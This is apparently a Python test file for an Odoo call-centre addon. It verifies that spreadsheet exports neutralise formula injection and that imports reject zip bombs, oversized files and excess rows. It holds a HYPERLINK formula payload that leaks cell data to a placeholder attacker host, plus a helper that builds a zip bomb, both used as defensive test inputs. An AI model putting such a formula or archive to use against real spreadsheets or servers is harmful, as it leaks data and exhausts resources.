"""Exports cannot carry formulas (M3) and imports refuse oversized files
and zip bombs (M9). Every file is made here."""
import base64
import io
import re
import zipfile

import openpyxl

from odoo.exceptions import UserError

from odoo.addons.crm_callcenter.tests.common import CallCenterCase

from ..spreadsheet import reader, writer

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def zip_bomb(member="xl/worksheets/sheet1.xml", size=5 * 1024 * 1024):
    """A small archive whose member unpacks to ``size`` bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(member, b" " * size)
    return buffer.getvalue()


class TestExportFormulaInjection(CallCenterCase):

    def exported(self, action, user):
        file_id = int(re.search(r"[?&]id=(\d+)", action["url"]).group(1))
        return base64.b64decode(
            self.env["crm.export.file"].sudo(user).browse(file_id).data)

    def test_agent_text_is_not_a_formula_in_xlsx_or_txt(self):
        agent = self.users["agent"]
        customer = self.new_customer(name=PAYLOAD, mobile="13700000021",
                                     street="@SUM(1+1)")
        book = openpyxl.load_workbook(io.BytesIO(
            self.exported(customer.sudo(agent).action_cc_export_xlsx(), agent)))
        cells = [cell for row in book.active.iter_rows() for cell in row]
        self.assertFalse([c.coordinate for c in cells if c.data_type == "f"],
                         "an exported cell is a formula")
        self.assertIn(PAYLOAD, [c.value for c in cells], "the text is kept as text")
        self.assertFalse(book.active._hyperlinks, "no cell became a link")
        text = self.exported(customer.sudo(agent).action_cc_export_txt(), agent)
        cells = [cell for line in text.decode("utf-8-sig").splitlines()
                 for cell in line.split("\t")]
        self.assertIn("'" + PAYLOAD, cells)
        self.assertIn("'@SUM(1+1)", cells)
        self.assertFalse([c for c in cells if c[:1] in ("=", "+", "-", "@")],
                         "a text cell starts a formula")

    def test_writer_neutralises_every_formula_start(self):
        rows = [["=1+1", "+1", "-1", "@x", "\tx", "\rx", "ok", 5, -3]]
        text = writer.write_text(["h"] * 9, rows).decode("utf-8-sig")
        cells = text.splitlines()[1].split("\t")
        self.assertEqual(cells[:4], ["'=1+1", "'+1", "'-1", "'@x"])
        self.assertTrue(cells[4].startswith("'") and cells[5].startswith("'"))
        self.assertEqual(cells[6:], ["ok", "5", "-3"], "numbers stay numbers")


class TestImportLimits(CallCenterCase):

    def wizard(self, filename, data):
        wizard = self.env["res.partner.import"].sudo(self.users["agent"]).create({
            "file_name": filename, "file_data": base64.b64encode(data),
            "cc_category_id": self.category.id})
        return wizard

    def test_xlsx_zip_bomb_refused_before_unpacking(self):
        bomb = zip_bomb()
        self.assertLess(len(bomb), 100 * 1024, "the test bomb should be small")
        with self.assertRaisesRegex(UserError, "unpacks to too much"):
            self.wizard("bomb.xlsx", bomb).action_preview()

    def test_declared_total_size_cap(self):
        saved = reader.MAX_UNCOMPRESSED_BYTES
        reader.MAX_UNCOMPRESSED_BYTES = 1024
        try:
            with self.assertRaisesRegex(reader.SheetError, "too much"):
                reader.read_table("x.xlsx", zip_bomb(size=4096))
        finally:
            reader.MAX_UNCOMPRESSED_BYTES = saved

    def test_oversized_file_refused(self):
        data = b"a" * (reader.MAX_FILE_BYTES + 1)
        with self.assertRaisesRegex(UserError, "too large"):
            self.wizard("big.csv", data).action_preview()

    def test_row_cap(self):
        saved = reader.MAX_ROWS
        reader.MAX_ROWS = 50
        try:
            lines = ["name,mobile"] + ["n%d,1390000%04d" % (i, i) for i in range(60)]
            with self.assertRaisesRegex(UserError, "more than 50 rows"):
                self.wizard("rows.csv", "\n".join(lines).encode()).action_preview()
        finally:
            reader.MAX_ROWS = saved
